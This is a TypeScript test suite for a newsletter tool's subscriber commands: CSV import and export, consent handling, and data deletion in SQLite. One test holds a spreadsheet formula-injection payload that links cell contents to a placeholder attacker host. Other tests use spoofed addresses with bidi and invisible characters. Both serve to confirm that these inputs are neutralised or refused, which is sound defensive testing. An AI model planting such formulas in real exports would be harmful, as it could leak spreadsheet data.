// Subscribers in a real SQLite file, managed through the real CLI.
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { copyFile, readFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { describe, it } from 'node:test';
import Database from 'better-sqlite3';
import { SCHEMA_VERSION, databasePath, openDatabase } from '../src/store/database.ts';
import { SqliteSubscribers, addressProblem, isEmailAddress } from '../src/store/subscribers.ts';
import { NOW, PROJECT, tempSite, writeFiles } from './helpers/cli.ts';
import { almanac } from './helpers/in-process.ts';

const CSV = [
  'Email,Name,Editions,Company',
  'ada@example.com,Ada Lovelace,midweek,Analytical',
  'BOB@Example.com,Bob,,Acme',
  'bob@example.com,,sunday,Acme',
  'not-an-email,Eve,,',
  'carol@example.com,Carol,weekly,',
  '',
  '"dave@example.com","Dave ""D"" Smith","midweek, sunday",',
  'erin@example.com,Erin,Sunday,',
].join('\n');

async function list(root: string, ...args: string[]): Promise<string[]> {
  const run = await almanac(['subscribers', 'list', '--root', root, ...args]);
  assert.equal(run.code, 0, run.stderr);
  return run.stdout.split('\n').filter(Boolean);
}

describe('subscribers', () => {
  it('imports a CSV: reports imported, merged and rejected lines, and stores them in SQLite', async () => {
    const root = await tempSite();
    await writeFiles(root, { 'list.csv': CSV });
    const run = await almanac(['subscribers', 'import', path.join(root, 'list.csv'), '--root', root, '--now', '2026-04-01T10:00:00Z']);
    assert.equal(run.code, 0, run.stderr);
    assert.match(run.stdout, /^Imported 4 new subscribers, merged 1 duplicate, left 0 who had unsubscribed or bounced as they were, rejected 2 lines\.$/m);
    assert.match(run.stdout, /rejected .*list\.csv:5: email: expected an email address, found "not-an-email"/);
    assert.match(run.stdout, /rejected .*list\.csv:6: editions: expected editions of this site: midweek, sunday, "midweek sunday", or empty for all, found "weekly"/);
    assert.deepEqual(await list(root), [
      'ada@example.com\tAda Lovelace\tmidweek\tactive\t2026-04-01',
      'BOB@Example.com\tBob\tmidweek sunday\tactive\t2026-04-01',
      'dave@example.com\tDave "D" Smith\tmidweek sunday\tactive\t2026-04-01',
      'erin@example.com\tErin\tsunday\tactive\t2026-04-01',
    ]);
    const db = new Database(path.join(root, '.almanac/almanac.db'), { readonly: true });
    assert.equal(db.pragma('journal_mode', { simple: true }), 'wal');
    assert.equal(db.pragma('user_version', { simple: true }), SCHEMA_VERSION);
    db.close();
  });

  it('an address is one subscriber whatever its case; editions from a later import are added', async () => {
    const root = await tempSite();
    assert.equal((await almanac(['subscribers', 'add', 'Ann@Example.com', '--name', 'Ann', '--editions', 'midweek', '--root', root])).code, 0);
    await writeFiles(root, { 'more.csv': 'email,editions\nann@example.COM,sunday\n' });
    const run = await almanac(['subscribers', 'import', path.join(root, 'more.csv'), '--root', root]);
    assert.match(run.stdout, /Imported 0 new subscribers, merged 1 duplicate/);
    const rows = await list(root);
    assert.equal(rows.length, 1);
    assert.match(rows[0]!, /^Ann@Example\.com\tAnn\tmidweek sunday\tactive/);
  });

  it('an import never re-subscribes an address that unsubscribed or bounced', async () => {
    const root = await tempSite();
    const db = openDatabase(databasePath(root));
    const store = new SqliteSubscribers(db);
    store.upsert({ email: 'gone@example.com', status: 'unsubscribed' }, Date.parse('2026-03-01T00:00:00Z'));
    store.upsert({ email: 'bounced@example.com', status: 'bounced' }, Date.parse('2026-03-01T00:00:00Z'));
    db.close();
    await writeFiles(root, { 'back.csv': 'email\ngone@example.com\nbounced@example.com\nnew@example.com\n' });
    const run = await almanac(['subscribers', 'import', path.join(root, 'back.csv'), '--root', root]);
    assert.match(run.stdout, /Imported 1 new subscriber, merged 0 duplicates, left 2 who had unsubscribed or bounced as they were/);
    assert.deepEqual((await list(root, '--status', 'active')).map((l) => l.split('\t')[0]), ['new@example.com']);
    assert.deepEqual((await list(root, '--status', 'unsubscribed')).map((l) => l.split('\t')[0]), ['gone@example.com']);
  });

  it('a file that is not CSV, or has no email column, imports nothing', async () => {
    const root = await tempSite();
    assert.equal((await almanac(['subscribers', 'add', 'keep@example.com', '--root', root])).code, 0);
    await writeFiles(root, {
      'photo.csv': '\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR',
      'people.csv': 'name,city\nAda,London\n',
      'broken.csv': 'email,name\n"ada@example.com,Ada\nbob@example.com,Bob\n',
    });
    for (const [file, found] of [
      ['photo.csv', /found binary data/],
      ['people.csv', /found the header "name,city"/],
      ['broken.csv', /Quote Not Closed/],
    ] as const) {
      const run = await almanac(['subscribers', 'import', path.join(root, file), '--root', root]);
      assert.equal(run.code, 1, `${file}: ${run.stdout}${run.stderr}`);
      assert.match(run.stderr, new RegExp(`${file}: expected a CSV file with a header row that has an "email" column`));
      assert.match(run.stderr, found);
      assert.doesNotMatch(run.stderr, /^\s+at /m);
    }
    assert.deepEqual((await list(root)).map((l) => l.split('\t')[0]), ['keep@example.com']);
  });

  it('export writes the import format, and importing it elsewhere gives the same list', async () => {
    const a = await tempSite();
    await writeFiles(a, { 'list.csv': CSV });
    await almanac(['subscribers', 'import', path.join(a, 'list.csv'), '--root', a]);
    const exported = await almanac(['subscribers', 'export', '--root', a]);
    assert.equal(exported.code, 0);
    assert.match(exported.stdout, /^email,name,editions,status,created_at\n/);
    assert.match(exported.stdout, /\ndave@example\.com,"Dave ""D"" Smith",midweek sunday,active,/);
    const b = await tempSite();
    await writeFiles(b, { 'export.csv': exported.stdout });
    await almanac(['subscribers', 'import', path.join(b, 'export.csv'), '--root', b]);
    const strip = (rows: string[]) => rows.map((r) => r.split('\t').slice(0, 4).join('\t'));
    assert.deepEqual(strip(await list(b)), strip(await list(a)));
    const sunday = await almanac(['subscribers', 'export', '--edition', 'sunday', '--root', a]);
    assert.deepEqual(sunday.stdout.trim().split('\n').slice(1).map((l) => l.split(',')[0]), ['BOB@Example.com', 'dave@example.com', 'erin@example.com']);
  });

  it('add, remove, and the errors: a bad address, bad options, an unknown address', async () => {
    const root = await tempSite();
    const added = await almanac(['subscribers', 'add', 'zoe@example.com', '--editions', 'sunday', '--root', root]);
    assert.equal(added.stdout, 'Added zoe@example.com (sunday)\n');
    assert.equal((await almanac(['subscribers', 'add', 'zoe@example.com', '--root', root])).stdout, 'Updated zoe@example.com (sunday)\n');
    const bad = await almanac(['subscribers', 'add', 'zoe@', '--root', root]);
    assert.equal(bad.code, 1);
    assert.match(bad.stderr, /email: expected an email address, found "zoe@"/);
    assert.equal((await almanac(['subscribers', 'add', 'x@example.com', '--editions', 'daily', '--root', root])).code, 2);
    assert.equal((await almanac(['subscribers', 'list', '--status', 'happy', '--root', root])).code, 2);
    assert.equal((await almanac(['subscribers', 'remove', 'ZOE@example.com', '--root', root])).stdout, 'Removed ZOE@example.com\n');
    const again = await almanac(['subscribers', 'remove', 'zoe@example.com', '--root', root]);
    assert.equal(again.code, 1);
    assert.match(again.stderr, /expected an address on the list, found "zoe@example\.com"/);
  });

  it('DATABASE_URL chooses the file; other databases are refused clearly', async () => {
    const root = await tempSite();
    const file = path.join(root, 'data', 'list.db');
    const run = await almanac(['subscribers', 'add', 'db@example.com', '--root', root], { env: { DATABASE_URL: `sqlite://${file}` } });
    assert.equal(run.code, 0, run.stderr);
    assert.ok(existsSync(file));
    assert.ok(!existsSync(path.join(root, '.almanac/almanac.db')));
    const pg = await almanac(['subscribers', 'list', '--root', root], { env: { DATABASE_URL: 'postgres://user:secret@db.example/almanac' } });
    assert.equal(pg.code, 2);
    assert.match(pg.stderr, /DATABASE_URL: only SQLite is supported for now/);
    assert.doesNotMatch(pg.stderr, /secret/, 'no credentials in output');
    await readFile(file);
  });

  it('names the hidden character in an address, whatever it is', () => {
    for (const [value, code] of [
      ['a\u202Eb@example.com', 'U+202E'],
      ['a\u2066b@example.com', 'U+2066'],
      ['a\u200Db@example.com', 'U+200D'],
      ['a\u00ADb@example.com', 'U+00AD'],
      ['a\u0000b@example.com', 'U+0000'],
      ['a\u009Bb@example.com', 'U+009B'],
      ['a\uFEFFb@example.com', 'U+FEFF'],
      ['a\u{E0041}b@example.com', 'U+E0041'],
    ] as const) {
      assert.ok(!isEmailAddress(value), code);
      assert.equal(addressProblem(value), `${JSON.stringify(value.replace(/[^\x20-\x7e]/gu, `<${code}>`))}, which contains an invisible or control character (${code})`);
    }
    assert.equal(addressProblem('plain@example.com'), undefined);
    assert.equal(addressProblem('caf\u00e9@example.com'), undefined, 'a visible non-ASCII letter is not hidden');
  });

  it('recognises email addresses', () => {
    for (const ok of ['a@example.com', 'first.last+tag@sub.example.co.uk', "o'neil@example.ie"]) assert.ok(isEmailAddress(ok), ok);
    for (const bad of ['', 'a', 'a@', '@example.com', 'a@example', 'a b@example.com', 'a@@example.com', '<a@example.com>', 'a..b@example.com', `${'x'.repeat(250)}@example.com`]) {
      assert.ok(!isEmailAddress(bad), bad);
    }
  });

  it('add refuses an address that unsubscribed or bounced; --resubscribe brings it back and records who and when', async () => {
    const root = await tempSite();
    const db = openDatabase(databasePath(root));
    const store = new SqliteSubscribers(db);
    store.upsert({ email: 'gone@example.com', status: 'unsubscribed' }, Date.parse('2026-03-01T00:00:00Z'));
    store.upsert({ email: 'bounced@example.com', status: 'bounced' }, Date.parse('2026-03-02T00:00:00Z'));
    db.close();
    for (const [email, why] of [['GONE@example.com', /which unsubscribed on 2026-03-01/], ['bounced@example.com', /which bounced/]] as const) {
      const run = await almanac(['subscribers', 'add', email, '--name', 'Back', '--root', root]);
      assert.equal(run.code, 1, run.stdout);
      assert.match(run.stderr, /^subscribers: email: expected an address that has not unsubscribed or bounced; only the reader can give consent again/m);
      assert.match(run.stderr, why);
      assert.match(run.stderr, new RegExp(`almanac subscribers add ${email} --resubscribe`, "i"));
      assert.doesNotMatch(run.stderr, /^\s+at /m);
    }
    assert.deepEqual((await list(root, '--status', 'active')), [], 'nobody was made active');
    assert.match((await list(root, '--status', 'unsubscribed'))[0]!, /^gone@example\.com\t\t/, 'not even the name changed');

    const usage = await almanac(['subscribers', 'add', 'gone@example.com', '--by', 'Ada', '--root', root]);
    assert.equal(usage.code, 2);
    assert.match(usage.stderr, /--by names who re-subscribes an address: use it with --resubscribe/);

    const back = await almanac(['subscribers', 'add', 'gone@example.com', '--resubscribe', '--by', 'Ada (ticket 42)', '--root', root, '--now', '2026-04-01T10:00:00Z']);
    assert.equal(back.code, 0, back.stderr);
    assert.equal(back.stdout, 'Re-subscribed gone@example.com (midweek sunday); recorded as re-subscribed by Ada (ticket 42) at 2026-04-01T10:00:00.000Z\n');
    const byOs = await almanac(['subscribers', 'add', 'bounced@example.com', '--resubscribe', '--root', root, '--now', '2026-04-02T10:00:00Z']);
    assert.equal(byOs.code, 0, byOs.stderr);
    const raw = new Database(databasePath(root), { readonly: true });
    const row = (email: string) =>
      raw.prepare('SELECT status, resubscribed_by AS by, resubscribed_at AS at, unsubscribed_at FROM subscribers WHERE email = ?').get(email);
    assert.deepEqual(row('gone@example.com'), { status: 'active', by: 'Ada (ticket 42)', at: Date.parse('2026-04-01T10:00:00Z'), unsubscribed_at: null });
    assert.deepEqual(row('bounced@example.com'), { status: 'active', by: os.userInfo().username, at: Date.parse('2026-04-02T10:00:00Z'), unsubscribed_at: null });
    raw.close();
  });

  it('remove takes the address out of the send ledger too: counts stay, queued copies are cancelled', async () => {
    const root = await tempSite();
    for (const email of ['zoe@example.com', 'amy@example.com']) assert.equal((await almanac(['subscribers', 'add', email, '--root', root])).code, 0);
    const db = openDatabase(databasePath(root));
    const id = (db.prepare("SELECT id FROM subscribers WHERE email = 'zoe@example.com'").get() as { id: number }).id;
    const other = (db.prepare("SELECT id FROM subscribers WHERE email = 'amy@example.com'").get() as { id: number }).id;
    const put = db.prepare("INSERT INTO deliveries (issue_id, subscriber_id, email, status, updated_at) VALUES (?, ?, ?, ?, 0)");
    put.run('2026-04-08-midweek', id, 'zoe@example.com', 'sent');
    put.run('2026-04-12-sunday', id, 'zoe@example.com', 'failed');
    put.run('2026-04-15-midweek', id, 'zoe@example.com', 'queued');
    put.run('2026-04-15-midweek', other, 'amy@example.com', 'queued');
    db.close();

    const run = await almanac(['subscribers', 'remove', 'Zoe@Example.com', '--root', root]);
    assert.equal(run.stdout, 'Removed Zoe@Example.com\n');
    const raw = new Database(databasePath(root), { readonly: true });
    assert.deepEqual(raw.prepare('SELECT issue_id, subscriber_id AS id, email, status FROM deliveries ORDER BY issue_id, subscriber_id').all(), [
      { issue_id: '2026-04-08-midweek', id, email: '', status: 'sent' },
      { issue_id: '2026-04-12-sunday', id, email: '', status: 'failed' },
      { issue_id: '2026-04-15-midweek', id, email: '', status: 'skipped' },
      { issue_id: '2026-04-15-midweek', id: other, email: 'amy@example.com', status: 'queued' },
    ]);
    raw.close();
    // Not in the file at all: not in a free page, not in the write-ahead log.
    for (const file of [databasePath(root), `${databasePath(root)}-wal`]) {
      if (existsSync(file)) assert.ok(!readFileSync(file).includes('zoe@example.com'), `${path.basename(file)} still holds the address`);
    }
  });

  it('export neutralises cells a spreadsheet would run as formulas, and import gives the values back', async () => {
    const a = await tempSite();
    const names: Record<string, string> = {
      'f1@example.com': '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      'f2@example.com': '+1 555 0100',
      'f3@example.com': '-2+3',
      'f4@example.com': '@SUM(A1:A9)',
      'f5@example.com': "'=already quoted",
      'f6@example.com': "O'Neil",
      '-dash@example.com': 'Dash',
      '+plus@example.com': 'Plus',
    };
    const db = openDatabase(databasePath(a));
    const store = new SqliteSubscribers(db);
    for (const [email, name] of Object.entries(names)) store.upsert({ email, name, status: 'active' }, Date.parse('2026-04-01T00:00:00Z'));
    db.close();
    const exported = await almanac(['subscribers', 'export', '--root', a]);
    assert.equal(exported.code, 0, exported.stderr);
    const { parse } = await import('csv-parse/sync');
    const cells = (parse(exported.stdout) as string[][]).slice(1).flat();
    for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a formula cell: ${cell}`);
    assert.ok(cells.includes(`'=HYPERLINK("https://evil.example/?"&A1,"Click")`));
    assert.ok(cells.includes("''=already quoted"));
    assert.ok(cells.includes("O'Neil"));

    const b = await tempSite();
    await writeFiles(b, { 'export.csv': exported.stdout });
    const imported = await almanac(['subscribers', 'import', path.join(b, 'export.csv'), '--root', b]);
    assert.match(imported.stdout, /^Imported 8 new subscribers, .* rejected 0 lines\.$/m);
    const back = new Map((await list(b)).map((l) => [l.split('\t')[0]!, l.split('\t')[1]!]));
    assert.deepEqual(Object.fromEntries(back), names);
  });

  it('refuses addresses with invisible or control characters wherever they enter: add and import', async () => {
    const root = await tempSite();
    for (const [email, code] of [
      ['admin\u202Emoc.elpmaxe@evil.example', 'U+202E'],
      ['ann\u200B@example.com', 'U+200B'],
      ['ann@exa\u2067mple.com', 'U+2067'],
      ['ann\u0085@example.com', 'U+0085'],
      ['ann\u0001@example.com', 'U+0001'],
    ] as const) {
      const run = await almanac(['subscribers', 'add', email, '--root', root]);
      assert.equal(run.code, 1, email);
      assert.match(run.stderr, new RegExp(`^command line: email: expected an email address, found ".*<${code.replace('+', '\\+')}>.*", which contains an invisible or control character \\(${code.replace('+', '\\+')}\\)$`, 'm'));
    }
    await writeFiles(root, { 'hidden.csv': 'email\nok@example.com\nbob\u200F@example.com\n"carol\u2066@example.com"\n' });
    const run = await almanac(['subscribers', 'import', path.join(root, 'hidden.csv'), '--root', root]);
    assert.match(run.stdout, /Imported 1 new subscriber, .*rejected 2 lines/);
    assert.match(run.stdout, /hidden\.csv:3: email: expected an email address, found "bob<U\+200F>@example\.com", which contains an invisible or control character \(U\+200F\)/);
    assert.match(run.stdout, /hidden\.csv:4: email: .*\(U\+2066\)/);
    assert.deepEqual((await list(root)).map((l) => l.split('\t')[0]), ['ok@example.com']);
  });

  it('issue send --to refuses an address with invisible or control characters', async () => {
    const root = await tempSite({ sample: true });
    await copyFile(path.join(PROJECT, 'almanac.config.json'), path.join(root, 'almanac.config.json'));
    assert.equal((await almanac(['issue', 'build', 'midweek', '--date', '2026-04-15', '--root', root, '--now', NOW])).code, 0);
    const run = await almanac(['issue', 'send', '2026-04-15-midweek', '--to', 'editor\u202E@example.com', '--root', root], {
      env: { ALMANAC_SECRET: 'to-secret-0123456789abcdef-ghijklmn', SMTP_URL: 'smtp://127.0.0.1:9' },
    });
    assert.equal(run.code, 2);
    assert.match(run.stderr, /--to expects an email address, found "editor<U\+202E>@example\.com", which contains an invisible or control character \(U\+202E\)/);
  });
});
